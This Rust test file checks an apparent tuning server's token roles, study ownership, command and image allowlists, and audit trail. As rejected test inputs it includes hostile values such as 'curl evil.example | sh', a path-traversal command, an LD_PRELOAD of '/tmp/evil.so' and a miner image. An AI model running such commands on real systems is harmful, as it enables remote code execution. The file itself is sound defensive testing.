//! Tokens with roles for a team on one server: created, listed and revoked through the
//! admin's API; what each role may do to a study (a writer's `trial_job` is refused naming
//! the field, a study is changed by its creator or an admin); the commands a server allows;
//! and the audit trail of who did what. On SQLite and PostgreSQL.

use crate::common::{self, routes};
use crate::support::{self, call_as, token};

use std::time::Duration;

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

on_both_backends!(
    tokens_are_created_listed_and_revoked_by_an_admin,
    a_writer_may_not_run_commands_and_changes_only_its_own_studies,
    the_audit_trail_names_who_did_what,
);

const ADMIN: &str = "admin-token";

/// A server with the admin token `ADMIN` configured.
async fn team_app(backend: &str) -> common::TestApp {
    support::team_app(backend, ADMIN).await
}

async fn tokens_are_created_listed_and_revoked_by_an_admin(backend: &str) {
    let app = team_app(backend).await;
    let created = app
        .post(
            "/v1/tokens",
            json!({"name": "ci", "role": "writer", "expires_in_secs": 30 * 86_400}),
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.body);
    assert_eq!(created.body["role"], "writer");
    assert!(created.body["expires_at"].is_string(), "{}", created.body);
    let ci = created.body["token"].as_str().expect("token").to_string();
    assert!(ci.starts_with("augur_"), "{ci}");
    // Names are unique, and none of those Augur gives itself.
    let again = app
        .post("/v1/tokens", json!({"name": "ci", "role": "reader"}))
        .await;
    assert_eq!(again.status, StatusCode::CONFLICT, "{}", again.body);
    for name in ["env", "open", "trial:1:1", "cli:root", "two words", ""] {
        let r = app
            .post("/v1/tokens", json!({"name": name, "role": "reader"}))
            .await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{name:?}: {}", r.body);
        assert_eq!(r.body["error"]["field"], "name");
    }
    let r = app
        .post("/v1/tokens", json!({"name": "x", "role": "root"}))
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
    assert_eq!(r.body["error"]["field"], "role");

    // Used once: its last use is recorded (off the request's path: eventually).
    assert_eq!(
        call_as(&app, &ci, Method::GET, "/v1/studies", None)
            .await
            .status,
        StatusCode::OK
    );
    let listed = common::eventually("last use recorded", Duration::from_secs(5), || async {
        let list = app.get("/v1/tokens").await;
        let ci = list.body["tokens"]
            .as_array()
            .and_then(|t| t.iter().find(|t| t["name"] == "ci").cloned())
            .unwrap_or(Value::Null);
        if ci["last_used_at"].is_string() {
            Ok(list.body)
        } else {
            Err(list.body.to_string())
        }
    })
    .await;
    let names: Vec<&str> = listed["tokens"]
        .as_array()
        .expect("tokens")
        .iter()
        .map(|t| t["name"].as_str().unwrap_or(""))
        .collect();
    assert_eq!(names, vec!["ci", "env"], "the configured token is `env`");
    assert!(
        !listed.to_string().contains(&ci) && !listed.to_string().contains("hash"),
        "no secret listed: {listed}"
    );
    // Only an admin manages tokens or reads the audit trail.
    for (method, path) in [
        (Method::GET, "/v1/tokens"),
        (Method::POST, "/v1/tokens"),
        (Method::DELETE, "/v1/tokens/env"),
        (Method::GET, "/v1/audit"),
    ] {
        let r = call_as(
            &app,
            &ci,
            method.clone(),
            path,
            Some(json!({"name": "x", "role": "admin"})),
        )
        .await;
        assert_eq!(
            r.status,
            StatusCode::FORBIDDEN,
            "{method} {path}: {}",
            r.body
        );
    }
    // Revoked: refused at once.
    let r = app.call(Method::DELETE, &routes::token("ci"), None).await;
    assert_eq!(r.status, StatusCode::NO_CONTENT, "{}", r.body);
    assert_eq!(
        call_as(&app, &ci, Method::GET, "/v1/studies", None)
            .await
            .status,
        StatusCode::UNAUTHORIZED
    );
    let r = app.call(Method::DELETE, &routes::token("ci"), None).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND, "{}", r.body);

    // An expired token is refused, cached or not.
    let short = app
        .post(
            "/v1/tokens",
            json!({"name": "short", "role": "reader", "expires_in_secs": 1}),
        )
        .await;
    let short = short.body["token"].as_str().expect("token").to_string();
    assert_eq!(
        call_as(&app, &short, Method::GET, "/v1/studies", None)
            .await
            .status,
        StatusCode::OK
    );
    tokio::time::sleep(Duration::from_millis(1_200)).await;
    assert_eq!(
        call_as(&app, &short, Method::GET, "/v1/studies", None)
            .await
            .status,
        StatusCode::UNAUTHORIZED
    );
}

fn job_spec(command: Value) -> Value {
    let mut s = common::spec("random", 2, 1);
    s["trial_job"] = json!({"command": command, "output_dir": "/tmp/augur-never-run"});
    s
}

async fn a_writer_may_not_run_commands_and_changes_only_its_own_studies(backend: &str) {
    let app = team_app(backend).await;
    let alice = token(&app, "alice", "writer").await;
    let bob = token(&app, "bob", "writer").await;
    let ops = token(&app, "ops", "operator").await;
    let reader = token(&app, "dash", "reader").await;

    // A trial_job runs commands on the server's machines: an operator's, not a writer's.
    let r = call_as(
        &app,
        &alice,
        Method::POST,
        "/v1/studies",
        Some(job_spec(json!(["/bin/sh", "-c", "id"]))),
    )
    .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    assert_eq!(r.body["error"]["field"], "trial_job", "{}", r.body);
    assert!(
        r.body["error"]["message"]
            .as_str()
            .unwrap_or("")
            .contains("operator")
    );
    let r = call_as(
        &app,
        &reader,
        Method::POST,
        "/v1/studies",
        Some(common::spec("random", 2, 1)),
    )
    .await;
    assert_eq!(
        r.status,
        StatusCode::FORBIDDEN,
        "a reader creates nothing: {}",
        r.body
    );

    let r = call_as(
        &app,
        &alice,
        Method::POST,
        "/v1/studies",
        Some(common::spec("random", 5, 2)),
    )
    .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    assert_eq!(r.body["created_by"], "alice");
    let study = r.body["id"].as_i64().expect("id");
    // Its creator asks and tells; another writer may not (`ownership.rs` tries every way)...
    let s = call_as(
        &app,
        &alice,
        Method::POST,
        &routes::suggest(study),
        Some(json!({"count": 1})),
    )
    .await;
    assert_eq!(s.status, StatusCode::OK, "{}", s.body);
    let c = call_as(
        &app,
        &bob,
        Method::POST,
        &routes::trial_complete(study, 1),
        Some(json!({"metrics": {"accuracy": 0.5}})),
    )
    .await;
    assert_eq!(c.status, StatusCode::FORBIDDEN, "{}", c.body);
    // ...and only its creator or an admin changes, stops or deletes it.
    for (method, path, body) in [
        (
            Method::PATCH,
            routes::study(study),
            Some(json!({"max_trials": 9})),
        ),
        (
            Method::PATCH,
            routes::trial(study, 1),
            Some(json!({"excluded": true})),
        ),
        (Method::POST, routes::stop(study), None),
        (Method::DELETE, routes::study(study), None),
    ] {
        for other in [&bob, &ops] {
            let r = call_as(&app, other, method.clone(), &path, body.clone()).await;
            assert_eq!(
                r.status,
                StatusCode::FORBIDDEN,
                "{method} {path}: {}",
                r.body
            );
        }
    }
    let r = call_as(
        &app,
        &alice,
        Method::PATCH,
        &routes::study(study),
        Some(json!({"max_trials": 9})),
    )
    .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let r = app.post(&routes::stop(study), json!({})).await;
    assert_eq!(r.status, StatusCode::OK, "an admin's: {}", r.body);

    // An operator may create a trial_job study (stopped at once: nothing must run here).
    let r = call_as(
        &app,
        &ops,
        Method::POST,
        "/v1/studies",
        Some(job_spec(json!(["/bin/true"]))),
    )
    .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let job_study = r.body["id"].as_i64().expect("id");
    let r = call_as(&app, &ops, Method::POST, &routes::stop(job_study), None).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
}

/// `--job-commands`: the server runs only commands that start with an allowed prefix, and
/// a job may not set what would make an allowed program load something else.
#[tokio::test]
async fn a_server_runs_only_the_commands_it_allows() {
    let app = common::spawn_app_configured(common::sqlite_db(), |c| {
        c.token = Some(ADMIN.into());
        c.dispatch = false;
        c.job_commands = vec![
            "/usr/bin/python3 /opt/trainers/train.py".into(),
            "/opt/bin/".into(),
        ];
    })
    .await;
    let create = |spec: Value| app.post("/v1/studies", spec);
    for command in [
        json!(["/bin/sh", "-c", "curl evil.example | sh"]),
        json!(["/usr/bin/python3", "-c", "import os"]),
        json!(["/usr/bin/python3", "/opt/trainers/train.pyc"]),
        json!(["/opt/bin/../../bin/sh"]),
        json!(["python3", "/opt/trainers/train.py"]),
    ] {
        let r = create(job_spec(command.clone())).await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{command}: {}", r.body);
        assert_eq!(r.body["error"]["field"], "trial_job.command", "{}", r.body);
    }
    let mut preload = job_spec(json!(["/opt/bin/train"]));
    preload["trial_job"]["env"] = json!({"LD_PRELOAD": "/tmp/evil.so"});
    let r = create(preload).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    assert_eq!(
        r.body["error"]["field"], "trial_job.env.LD_PRELOAD",
        "{}",
        r.body
    );
    for command in [
        json!(["/usr/bin/python3", "/opt/trainers/train.py", "--epochs=3"]),
        json!(["/opt/bin/train"]),
    ] {
        let mut spec = job_spec(command.clone());
        spec["trial_job"]["env"] = json!({"PYTHONUNBUFFERED": "1"});
        let r = create(spec).await;
        assert_eq!(r.status, StatusCode::CREATED, "{command}: {}", r.body);
    }
    // A training cluster's pools run their own commands: each is checked.
    let mut pools = job_spec(json!(["/opt/bin/train"]));
    pools["trial_job"]["worker_pools"] =
        json!([{}, {"replicas": 2, "command": ["/bin/sh", "-c", "id"]}]);
    let r = create(pools).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    assert_eq!(
        r.body["error"]["field"], "trial_job.worker_pools[1].command",
        "{}",
        r.body
    );
    // A container runs whatever its image holds: with only --job-commands set, no image is
    // allowed.
    let mut image = job_spec(json!(["/opt/bin/train"]));
    image["trial_job"]["executor"] = json!("container");
    image["trial_job"]["image"] = json!("docker.io/library/busybox");
    let r = create(image).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    assert_eq!(r.body["error"]["field"], "trial_job.image", "{}", r.body);
}

/// `--job-images`: container and Kubernetes jobs run only images under an allowed prefix.
#[tokio::test]
async fn a_server_runs_only_the_images_it_allows() {
    let app = common::spawn_app_configured(common::sqlite_db(), |c| {
        c.token = Some(ADMIN.into());
        c.dispatch = false;
        c.job_images = vec!["registry.example.com/ml/".into()];
    })
    .await;
    let create = |spec: Value| app.post("/v1/studies", spec);
    let image_spec = |image: &str| {
        let mut s = job_spec(json!(["python3", "train.py"]));
        s["trial_job"]["executor"] = json!("container");
        s["trial_job"]["image"] = json!(image);
        s
    };
    for image in [
        "docker.io/library/busybox",
        "registry.example.com/mlx/trainer:1",
        "registry.example.com/other/trainer",
    ] {
        let r = create(image_spec(image)).await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{image}: {}", r.body);
        assert_eq!(r.body["error"]["field"], "trial_job.image", "{}", r.body);
    }
    let r = create(image_spec("registry.example.com/ml/trainer:1.2")).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    // A pool may name its own image: that one is checked too.
    let mut pool = image_spec("registry.example.com/ml/trainer:1.2");
    pool["trial_job"]["worker_pools"] = json!([{}, {"image": "docker.io/evil/miner"}]);
    let r = create(pool).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    assert_eq!(
        r.body["error"]["field"], "trial_job.worker_pools[1].image",
        "{}",
        r.body
    );
    // With only images allowed, a process job is not.
    let r = create(job_spec(json!(["/opt/bin/train"]))).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    assert_eq!(r.body["error"]["field"], "trial_job.command", "{}", r.body);
}

async fn the_audit_trail_names_who_did_what(backend: &str) {
    let app = team_app(backend).await;
    let alice = token(&app, "alice", "writer").await;
    let r = call_as(
        &app,
        &alice,
        Method::POST,
        "/v1/studies",
        Some(common::spec("random", 5, 2)),
    )
    .await;
    let study = r.body["id"].as_i64().expect("id");
    let added = call_as(
        &app,
        &alice,
        Method::POST,
        &routes::trials(study),
        Some(
            json!({"parameters": {"lr": 0.01, "layers": 2, "batch": 16, "kernel": "rbf"},
                    "final_measurement": {"metrics": {"accuracy": 0.7}}}),
        ),
    )
    .await;
    assert_eq!(added.status, StatusCode::CREATED, "{}", added.body);
    call_as(
        &app,
        &alice,
        Method::PATCH,
        &routes::trial(study, 1),
        Some(json!({"excluded": true})),
    )
    .await;
    call_as(
        &app,
        &alice,
        Method::PATCH,
        &routes::study(study),
        Some(json!({"max_trials": 7})),
    )
    .await;
    call_as(&app, &alice, Method::POST, &routes::stop(study), None).await;
    app.call(Method::DELETE, &routes::study(study), None).await;
    app.call(Method::DELETE, &routes::token("alice"), None)
        .await;

    let trail = app.get("/v1/audit").await;
    assert_eq!(trail.status, StatusCode::OK, "{}", trail.body);
    let seen: Vec<(String, String, Option<i64>, Option<i64>)> = trail.body["events"]
        .as_array()
        .expect("events")
        .iter()
        .map(|e| {
            (
                e["actor"].as_str().unwrap_or("").to_string(),
                e["action"].as_str().unwrap_or("").to_string(),
                e["study_id"].as_i64(),
                e["trial_id"].as_i64(),
            )
        })
        .collect();
    let s = Some(study);
    let expected = vec![
        ("env".to_string(), "token.create".to_string(), None, None),
        ("alice".into(), "study.create".into(), s, None),
        ("alice".into(), "trial.add".into(), s, Some(1)),
        ("alice".into(), "trial.exclude".into(), s, Some(1)),
        ("alice".into(), "study.update".into(), s, None),
        ("alice".into(), "study.stop".into(), s, None),
        ("env".into(), "study.delete".into(), s, None),
        ("env".into(), "token.revoke".into(), None, None),
    ];
    assert_eq!(seen, expected);
    assert_eq!(
        trail.body["events"][0]["detail"],
        "alice (writer, never expires)"
    );
    assert_eq!(trail.body["events"][4]["detail"], r#"{"max_trials":7}"#);
    // Paged like every list.
    let first = app.get("/v1/audit?page_size=3").await.body;
    assert_eq!(first["events"].as_array().map(Vec::len), Some(3));
    let next = first["next_page_token"].as_str().expect("next page");
    let rest = app.get(&format!("/v1/audit?page_token={next}")).await.body;
    assert_eq!(rest["events"].as_array().map(Vec::len), Some(5));
    // An open server's caller is `open`.
    let open = common::spawn_app(common::db(backend).await).await;
    open.create_study(common::spec("random", 2, 1)).await;
    let trail = open.get("/v1/audit").await.body;
    assert_eq!(trail["events"][0]["actor"], "open", "{trail}");
}

/// A dispatched trial's token is its dispatcher's, one per launch: nobody may mint another
/// (it would revoke the running job's), even knowing the dispatcher's client id.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_dispatched_trials_token_cannot_be_replaced() {
    let app = common::spawn_app_with(common::sqlite_db(), Some(ADMIN)).await;
    let dir = tempfile::tempdir().expect("dir");
    let mut spec = common::spec("random", 1, 1);
    spec["trial_job"] = json!({
        "command": ["/bin/sh", "-c", "sleep 30"],
        "output_dir": dir.path().display().to_string()
    });
    let study = app.create_study(spec).await;
    let trial = common::eventually("the trial runs", Duration::from_secs(20), || {
        let app = &app;
        async move {
            let t = app.get(&routes::trial(study, 1)).await.body;
            if t["state"] == "active" {
                Ok(t)
            } else {
                Err(t.to_string())
            }
        }
    })
    .await;
    let client = trial["client_id"].as_str().expect("client id").to_string();
    let r = app
        .post(&routes::trial_token(study, 1), json!({"client_id": client}))
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    assert_eq!(r.body["error"]["field"], "client_id");
    app.post(&routes::stop(study), json!({})).await;
}
